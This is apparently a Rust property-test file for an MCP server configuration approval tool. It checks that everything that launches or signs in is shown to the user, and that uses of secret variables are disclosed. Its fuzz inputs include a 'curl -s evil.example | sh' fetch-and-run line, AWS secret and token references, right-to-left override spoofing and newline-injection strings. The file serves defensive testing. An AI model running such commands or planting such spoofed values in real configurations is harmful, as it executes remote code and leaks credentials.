//! Properties of approval: what starts is a function of what is shown, for entries of every shape.

use std::{fmt::Write, path::Path};

use proptest::{collection::vec, prelude::*, sample::select};
use serde_json::{Value, json};
use sightglass_config::{LaunchKind, LaunchPlan, ResolveOptions, Scope, SignInFields};
use sightglass_model::{Endpoint, ServerSpec, entirely_visible};

use crate::{cases, parse_scope};

const MEMBERS: [&str; 34] = [
    "type",
    "transport",
    "command",
    "args",
    "env",
    "cwd",
    "url",
    "headers",
    "ca_file",
    "tls_fingerprint",
    "disabled",
    "enabled",
    "era",
    "phase_timeouts",
    "startup_timeout",
    "tool_timeout",
    "enabled_tools",
    "disabled_tools",
    "oauth",
    "bearer_token_env_var",
    "bearerTokenEnvVar",
    "clientId",
    "client_id",
    "clientSecret",
    "client_secret",
    "clientMetadataUrl",
    "authServerMetadataUrl",
    "auth_server_metadata_url",
    "scopes",
    "scope",
    "callbackPort",
    "callback_port",
    "x-other",
    "\u{202e}dmmoc",
];

/// Variables that are set have their own reference as their value, so that a text with them
/// expands to itself. `UNSET` has none.
fn environment(name: &str) -> Option<String> {
    (name != "UNSET").then(|| format!("${{{name}}}"))
}

fn texts() -> impl Strategy<Value = String> {
    select(vec![
        "sh",
        "-c",
        "curl -s evil.example | sh",
        "${AWS_SECRET_ACCESS_KEY}",
        "Bearer ${TOKEN}",
        "${UNSET:-https://default.example/mcp}",
        "${UNSET:-${UNSET:-deep}}",
        "https://docs.example.com/mcp",
        "wss://docs.example.com",
        "cod\u{202e}gpj.exe",
        "a\n  Command  ls",
        "\u{200b}",
        "größe 日本語",
        "",
        " AWS_SECRET_ACCESS_KEY ",
        "a b",
        "8123",
        "off",
        "relative/dir",
        "/absolute",
    ])
    .prop_map(str::to_owned)
}

fn named() -> impl Strategy<Value = Value> {
    let names = select(vec![
        "A",
        "NODE_OPTIONS",
        "Authorization",
        "X-\u{202e}",
        "clientId",
        "clientSecret",
        "authServerMetadataUrl",
        "scopes",
        "callbackPort",
        "ready",
    ]);
    vec(
        (
            names,
            prop_oneof![4 => texts().prop_map(Value::from), 1 => Just(json!(7))],
        ),
        0..4,
    )
    .prop_map(|members| {
        let members = members
            .into_iter()
            .map(|(name, value)| (name.to_owned(), value));
        Value::Object(members.collect())
    })
}

fn values() -> impl Strategy<Value = Value> {
    prop_oneof![
        5 => texts().prop_map(Value::from),
        2 => vec(texts(), 0..4).prop_map(Value::from),
        2 => named(),
        1 => select(vec![json!(5), json!(1.5), json!(true), json!(false), Value::Null, json!([["x"], 1])]),
    ]
}

/// Values that the member expects, so that a good part of the entries can start.
fn fitting(member: &'static str) -> BoxedStrategy<Value> {
    match member {
        "type" | "transport" => select(vec!["stdio", "http", "sse", "ws", "auto"])
            .prop_map(Value::from)
            .boxed(),
        "url" => Just(json!("https://docs.example.com/mcp")).boxed(),
        "command" => Just(json!("sh")).boxed(),
        "args" => vec(texts(), 0..4).prop_map(Value::from).boxed(),
        "env" | "headers" | "oauth" => named().boxed(),
        "tls_fingerprint" => Just(json!("ab".repeat(32))).boxed(),
        "era" => Just(json!("modern")).boxed(),
        "disabled" | "enabled" => any::<bool>().prop_map(Value::from).boxed(),
        "startup_timeout" | "tool_timeout" => Just(json!(3)).boxed(),
        "phase_timeouts" => Just(json!({"initializing": 2})).boxed(),
        _ => texts().prop_map(Value::from).boxed(),
    }
}

fn members() -> impl Strategy<Value = Vec<(&'static str, Value)>> {
    let member = select(MEMBERS.to_vec()).prop_flat_map(|name| {
        prop_oneof![3 => fitting(name), 1 => values().boxed()].prop_map(move |value| (name, value))
    });
    let endpoint = prop_oneof![
        4 => Just(vec![("command", json!("sh"))]),
        4 => Just(vec![("url", json!("https://docs.example.com/mcp"))]),
        2 => Just(vec![("command", json!("sh")), ("url", json!("https://docs.example.com/mcp"))]),
        1 => Just(Vec::new()),
    ];
    (endpoint, vec(member, 0..8)).prop_map(|(mut members, others)| {
        members.extend(others);
        members
    })
}

/// The text of an entry; a name may stand in it several times.
fn written(members: &[(&'static str, Value)]) -> String {
    let mut text = "{".to_owned();
    for (index, (name, value)) in members.iter().enumerate() {
        let comma = if index == 0 { "" } else { ", " };
        write!(text, "{comma}{}: {value}", json!(name)).expect("a string takes everything");
    }
    text + "}"
}

fn plan(scope: Scope, entry: &str) -> LaunchPlan {
    let file = parse_scope(scope, &format!("{{\"mcpServers\": {{\"s\": {entry}}}}}"));
    LaunchPlan::of(&file.definitions[0])
}

/// Effect of a plan: what starts, and how it is signed in to.
fn effect(plan: &LaunchPlan) -> (Option<ServerSpec>, SignInFields) {
    let options = ResolveOptions {
        environment: &environment,
        project: Path::new("/project"),
        reads_files: true,
    };
    (plan.resolve(options).ok(), plan.sign_in(&environment))
}

/// Every text that reaches the connection or the sign-in.
fn reaching(spec: &ServerSpec, sign_in: SignInFields) -> Vec<String> {
    let path = |path: &Path| {
        let inside = path.strip_prefix("/project").unwrap_or(path);
        inside.display().to_string()
    };
    let mut texts = Vec::new();
    match &spec.endpoint {
        Endpoint::Stdio {
            command,
            arguments,
            environment,
            working_directory,
        } => {
            texts.push(command.clone());
            texts.extend(arguments.iter().cloned());
            for (name, value) in environment {
                texts.extend([name.clone(), value.expose().clone()]);
            }
            texts.extend(working_directory.as_deref().map(path));
        }
        Endpoint::Remote(remote) => {
            texts.push(remote.url.clone());
            for (name, value) in &remote.headers {
                texts.extend([name.clone(), value.expose().clone()]);
            }
            texts.extend(remote.trust.ca_file.as_deref().map(path));
            texts.extend(remote.trust.fingerprint.map(|_| "ab".repeat(32)));
            texts.extend(sign_in.client_id);
            texts.extend(sign_in.client_secret.map(|secret| secret.expose().clone()));
            texts.extend(sign_in.client_metadata_url);
            texts.extend(sign_in.server_metadata_url);
            texts.extend(sign_in.bearer_variable);
            texts.extend(sign_in.scopes.into_iter().flatten());
            texts.extend(sign_in.callback_port.map(|port| port.to_string()));
        }
    }
    texts
}

proptest! {
    #![proptest_config(cases(2000))]

    #[test]
    fn every_text_that_takes_effect_is_shown(
        members in members(),
        scope in select(vec![Scope::User, Scope::Project, Scope::ProjectRoot, Scope::Local]),
    ) {
        let plan = plan(scope, &written(&members));
        let rows = plan.rows();
        let shown: Vec<&String> = rows.iter().flat_map(|row| &row.values).collect();
        // A name in the entry is never left out, whatever it means.
        let has = |name: &str| members.iter().any(|(member, _)| *member == name);
        if scope != Scope::User && has("command") && has("url") {
            prop_assert_eq!(plan.kind(), LaunchKind::Unusable);
        }
        let (spec, sign_in) = effect(&plan);
        let Some(spec) = spec else { return Ok(()) };
        let kind = match &spec.endpoint {
            Endpoint::Stdio { .. } => LaunchKind::Program,
            Endpoint::Remote(_) => LaunchKind::Remote,
        };
        prop_assert_eq!(plan.kind(), kind);
        for text in reaching(&spec, sign_in) {
            let text = entirely_visible(&text).into_owned();
            prop_assert!(
                shown.iter().any(|value| value.contains(&text)),
                "{} is not in {:?}", text, shown
            );
        }
        for name in ["AWS_SECRET_ACCESS_KEY", "TOKEN"] {
            let reference = format!("${{{name}}}");
            let is_used = |value: &String| value.contains(&reference);
            let in_endpoint = rows
                .iter()
                .filter(|row| ["Command", "Arguments", "Environment", "Working directory", "URL", "Headers"]
                    .contains(&row.label.as_str()))
                .flat_map(|row| &row.values)
                .any(is_used);
            if in_endpoint {
                let sentences = plan.consequences();
                let named = sentences.iter().any(|sentence| {
                    sentence.contains(&format!("the variable {name} of your environment"))
                });
                prop_assert!(named, "{} is not in {:?}", name, sentences);
            }
        }
        for text in shown {
            prop_assert_eq!(&*entirely_visible(text), text.as_str());
        }
    }

    #[test]
    fn what_starts_is_a_function_of_what_was_shown(
        one in members(), other in members(), reversed in any::<bool>(), cut in 0_usize..10,
    ) {
        // Another order, another entry, or the same one without a member.
        let mut changed = one.clone();
        if reversed { changed.reverse() } else if cut < changed.len() { drop(changed.remove(cut)) }
        let plans: Vec<LaunchPlan> = [&one, &changed, &other]
            .into_iter()
            .map(|members| plan(Scope::Project, &written(members)))
            .collect();
        for first in &plans {
            for second in &plans {
                let same_effect = effect(first) == effect(second);
                if first.fingerprint() == second.fingerprint() {
                    prop_assert!(same_effect);
                    let sorted = |plan: &LaunchPlan| {
                        let mut rows = plan.rows();
                        rows.sort_by(|one, other| one.label.cmp(&other.label));
                        rows
                    };
                    prop_assert_eq!(sorted(first).len(), sorted(second).len());
                }
                if first.rows() == second.rows() && first.raw_text() == second.raw_text() {
                    prop_assert!(same_effect);
                }
            }
        }
    }
}
